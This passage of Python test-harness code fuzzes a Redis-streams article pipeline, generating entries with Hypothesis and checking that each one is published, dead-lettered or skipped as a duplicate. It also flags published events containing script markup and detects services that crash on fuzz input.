        return FuzzEntry(f"hypothesis:{stream}", stream, fields, expect="invalid_event")

    return st.builds(
        entry, st.dictionaries(names, st.binary(max_size=60), max_size=5), st.one_of(st.none(), events)
    )


def draw_examples(strategy: Any, count: int, seed: int) -> list[Any]:
    """`count` examples of a strategy, reproducible from `seed` (no example database)."""
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import seed as hypothesis_seed

    drawn: list[Any] = []

    @hypothesis_seed(seed)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(example: Any) -> None:
        drawn.append(example)

    collect()
    return drawn


@dataclass
class FuzzBooks:
    entries: list[SentFuzz] = field(default_factory=list)
    sent: int = 0
    published: int = 0
    dlq: int = 0
    skipped: int = 0
    # Published entries beyond the first per (article_id, article_version), among fuzz entries.
    duplicates: int = 0
    outcomes: dict[str, str] = field(default_factory=dict)  # correlation id -> outcome
    dead_letters: dict[str, list[dict[str, str]]] = field(default_factory=dict)  # by correlation id
    unaccounted: list[SentFuzz] = field(default_factory=list)
    twice: list[tuple[SentFuzz, list[str]]] = field(default_factory=list)
    # Published, then redelivered by a reclaim (a slow first commit) and skipped by ingest as a
    # duplicate of that very publication: handled twice, published once, which is at-least-once.
    redelivered: list[SentFuzz] = field(default_factory=list)
    unexpected: list[tuple[SentFuzz, str]] = field(default_factory=list)
    codes: Counter[tuple[str, str]] = field(default_factory=Counter)  # (stage, code)
    markup_published: list[str] = field(default_factory=list)


def close_fuzz_books(client: redis.Redis, sent: Sequence[SentFuzz], ingest: ServiceProcess) -> FuzzBooks:
    """Each fuzz entry must be published, dead-lettered, or skipped by ingest as a duplicate."""
    by_cid = {s.correlation_id: s for s in sent}
    published: dict[str, str] = {}  # correlation id -> event JSON
    published_as: dict[str, tuple[str, str]] = {}  # correlation id -> (article id, version)
    keys: Counter[tuple[str, str]] = Counter()
    for _, fields in read_stream(client, streams.PUBLISHED):
        cid = fields.get(streams.FIELD_CORRELATION_ID, "")
        sent_entry = by_cid.get(cid)
        # A garbage entry we wrote into articles.published itself is not a publication.
        if sent_entry is not None and sent_entry.entry.stream != streams.PUBLISHED:
            published[cid] = fields.get(streams.FIELD_EVENT, "")
            key = (fields.get(streams.FIELD_ARTICLE_ID, ""), fields.get(streams.FIELD_ARTICLE_VERSION, ""))
            published_as[cid] = key
            keys[key] += 1
    by_entry = {(s.entry.stream, s.entry_id): s for s in sent}
    dead: dict[str, list[dict[str, str]]] = {}
    for _, fields in read_stream(client, streams.DLQ):
        key = (fields.get("source_stream", ""), fields.get("source_entry_id", ""))
        if key in by_entry:
            dead.setdefault(by_entry[key].correlation_id, []).append(fields)
    skipped = {
        str(record.get("entry_id")): str(record.get("reason", ""))
        for record in ingest.log_records()
        if record.get("event") == "skipped"
    }
    skipped_article = {
        str(record.get("entry_id")): str(record.get("article_id", ""))
        for record in ingest.log_records()
        if record.get("event") == "skipped"
    }
    books = FuzzBooks(
        entries=list(sent), sent=len(sent), dead_letters=dead, duplicates=sum(n - 1 for n in keys.values())
    )
    for s in sent:
        found = []
        if s.correlation_id in published:
            found.append(PUBLISHED)
            if "<script" in published[s.correlation_id].lower():
                books.markup_published.append(s.entry.name)
        for fields in dead.get(s.correlation_id, []):
            books.codes[(fields.get("stage", ""), fields.get("code", ""))] += 1
        if s.correlation_id in dead:
            found.append(f"dlq:{dead[s.correlation_id][0].get('code', '')}")
        if s.entry.stream == streams.INBOUND and s.entry_id in skipped:
            reason = skipped[s.entry_id]
            found.append(SKIPPED if reason.startswith("duplicate") else f"skipped:{reason}")
        if not found:
            books.unaccounted.append(s)
            continue
        if found == [PUBLISHED, SKIPPED] and published_as[s.correlation_id] == (
            skipped_article[s.entry_id],
            skipped[s.entry_id].removeprefix("duplicate of version "),
        ):
            books.redelivered.append(s)
            found = [PUBLISHED]
        if len(found) > 1:
            books.twice.append((s, found))
        outcome = found[0]
        books.outcomes[s.correlation_id] = outcome
        books.published += outcome == PUBLISHED
        books.skipped += outcome == SKIPPED
        books.dlq += outcome.startswith("dlq:")
        if s.entry.expect is not None and outcome not in (s.entry.expect, f"dlq:{s.entry.expect}"):
            books.unexpected.append((s, outcome))
    return books


def wait_fuzz_settled(
    client: redis.Redis, sent: Sequence[SentFuzz], cluster: Cluster, *, timeout_s: float
) -> FuzzBooks:
    """Until every fuzz entry is accounted for (or the timeout); the final books."""
    deadline = time.monotonic() + timeout_s
    while True:
        dead = cluster.dead_services()
        if dead:
            raise ServiceDied(f"{dead} died on fuzz input:\n{cluster.log_tails()}")
        books = close_fuzz_books(client, sent, cluster.services["ingest"])
        if not books.unaccounted or time.monotonic() > deadline:
            return books
        time.sleep(0.5)
